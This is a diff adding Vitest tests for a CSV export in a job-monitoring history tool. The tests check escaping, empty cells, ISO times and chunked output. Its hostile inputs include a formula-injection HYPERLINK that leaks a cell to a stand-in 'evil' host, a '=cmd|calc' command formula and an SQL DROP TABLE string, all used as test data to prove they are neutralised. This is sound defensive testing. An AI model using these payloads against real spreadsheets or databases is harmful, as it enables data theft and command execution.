@@ -1,0 +1,147 @@
+import { expect, it } from 'vitest'
+import type { CsvQuery } from '#core/api/history.ts'
+import { csvParts, csvText, textCell } from './csv.ts'
+import type { History } from './history.ts'
+import { facts, job, newFile, NOW, openAt, target } from './testing/samples.ts'
+
+const query = (what: CsvQuery['what'], more: Partial<CsvQuery> = {}): CsvQuery => ({
+  ...{ fromMs: NOW, toMs: NOW + 600_000, what, tier: null, by: 'job' },
+  ...more,
+})
+const textOf = (h: History, q: CsvQuery): string => [...csvText(h.reader(), q)].map((p) => p.text).join('')
+
+/** RFC 4180, read back. */
+function parse(text: string): string[][] {
+  const rows: string[][] = [[]]
+  const cells = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy
+  for (let m = cells.exec(text); m; m = cells.exec(text)) {
+    const raw = m[1] ?? ''
+    rows.at(-1)?.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw)
+    if (m[2] === '\r\n') rows.push([])
+    if (cells.lastIndex === text.length) break
+  }
+  expect(rows.pop()).toEqual([])
+  return rows
+}
+
+const HOSTILE = [
+  '=HYPERLINK("http://evil/?"&A1,"x")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1',
+  ' =1+1',
+  '＝1',
+  'plain,"quoted"',
+  'two\nlines',
+  "'; DROP TABLE job; --",
+  '\u0000nul',
+]
+
+it('a job id that is a formula, a quote, a line or a statement is text in a cell and in the file', () => {
+  const history = openAt(newFile())
+  history.beginSource('LIVE', 'c', '', NOW)
+  const evil = (jobId: string) => ({ ...facts(jobId), user: '=cmd|calc', account: '@x' })
+  history.record(
+    NOW,
+    HOSTILE.map((id, i) => job(id, i)),
+    [target('=OST', 1)],
+    evil,
+  )
+  history.recordEvent({ atMs: NOW, kind: 'note', level: 'ok', subject: 'Note', text: '=1+1', where: '-x' })
+  history.flush()
+  const rows = parse(textOf(history, query('jobs')))
+  expect(rows).toHaveLength(HOSTILE.length + 1)
+  expect(new Set(rows.map((r) => r.length))).toEqual(new Set([rows[0]?.length]))
+  const ids = rows.slice(1).map((r) => r[1])
+  expect(ids.map((id) => id?.replace(/^'(?=[\s\0]*[=+\-@\t\r\n＝])/, ''))).toEqual(HOSTILE)
+  const all = ['jobs', 'targets', 'events'] as const
+  for (const cell of all.flatMap((what) =>
+    parse(textOf(history, query(what)))
+      .slice(1)
+      .flat(),
+  )) {
+    // A number may be negative; text never begins a formula.
+    if (!/^-?\d+(\.\d+)?(e[+-]\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[\s\0]*[=+\-@\t\r＝＋－＠]/)
+  }
+  expect(history.reader().jobByName(HOSTILE[10] ?? '')?.jobId).toBe(HOSTILE[10])
+  expect(history.count('job')).toBe(HOSTILE.length)
+  history.close()
+})
+
+it('a gap is an empty cell, a time is ISO, a record is whole', () => {
+  const history = openAt(newFile())
+  history.beginSource('LIVE', 'c', '', NOW)
+  history.record(
+    NOW,
+    [job('7.cfd.u1', null), job('8.x.u2', 2.5, { record: -(2 ** 30) - 1 })],
+    [target('t', null)],
+    facts,
+    {
+      rpcs: null,
+      queued: 3,
+    },
+  )
+  history.flush()
+  expect(parse(textOf(history, query('jobs'))).slice(1)).toEqual([
+    ['2026-01-02T00:00:00.000Z', '7.cfd.u1', 'u1', 'aero', 'cfd', '4', '', '', '', '', '0', ''],
+    ['2026-01-02T00:00:00.000Z', '8.x.u2', 'u2', 'aero', 'x', '4', '2.5', '2.5', '2.5', '', '0', '-1073741825'],
+  ])
+  expect(parse(textOf(history, query('cluster')))[1]).toEqual([
+    ...['2026-01-02T00:00:00.000Z', '', '', '', '', '3', '', '', ''],
+  ])
+  expect(parse(textOf(history, query('targets')))[1]).toEqual(['2026-01-02T00:00:00.000Z', 't', 'oss1', '', '', ''])
+  expect(parse(textOf(history, query('jobs', { by: 'account' }))).slice(1)).toEqual([
+    ['2026-01-02T00:00:00.000Z', 'aero', '2', '', '', '', ''],
+  ])
+  history.close()
+})
+
+it('comes in parts of bounded size, also a hundred thousand rows, and every event once', async () => {
+  const history = openAt(newFile())
+  history.beginSource('EMULATED', 'c', '', NOW)
+  const jobs = Array.from({ length: 1000 }, (_, i) => job(`${i}.solve.u1`, i))
+  for (let i = 0; i < 100; i++) history.record(NOW + i * 100, jobs, [], facts)
+  // More events of one instant than are read at once.
+  for (let i = 0; i < 2500; i++) {
+    history.recordEvent({
+      atMs: NOW + (i < 1300 ? 5 : i),
+      kind: 'note',
+      level: 'ok',
+      subject: 's',
+      text: `n${i}`,
+      where: '',
+    })
+  }
+  history.flush()
+  const reader = history.reader()
+  const parts = csvParts(reader, query('jobs'))
+  if (!parts.ok) throw new Error(parts.error.what)
+  let [rows, longest, last] = [0, 0, false]
+  for await (const part of parts.value) {
+    expect(last).toBe(false)
+    rows += part.rows
+    longest = Math.max(longest, part.text.length)
+    last = part.isLast
+    // What is sampled meanwhile is written: reading holds no lock.
+    history.record(NOW + 20_000 + rows, [], [], facts)
+    history.flush()
+  }
+  expect([rows, last]).toEqual([100_000, true])
+  expect(longest).toBeLessThan(70_000)
+  const events = parse(textOf(history, query('events'))).slice(1)
+  expect(new Set(events.map((r) => r[5])).size).toBe(2500)
+  expect(events).toHaveLength(2500)
+  expect(csvParts(reader, query('jobs', { fromMs: 0, toMs: 5 }))).toMatchObject({
+    ok: false,
+    error: { code: 'CSV_EMPTY' },
+  })
+  history.close()
+})
+
+it('quotes only what must be', () => {
+  expect(['a', 'a b', 'a,b', 'a"b', ' a', '', '=a', 'a=b'].map(textCell)).toEqual([
+    ...['a', 'a b', '"a,b"', '"a""b"', '" a"', '', "'=a", 'a=b'],
+  ])
+})
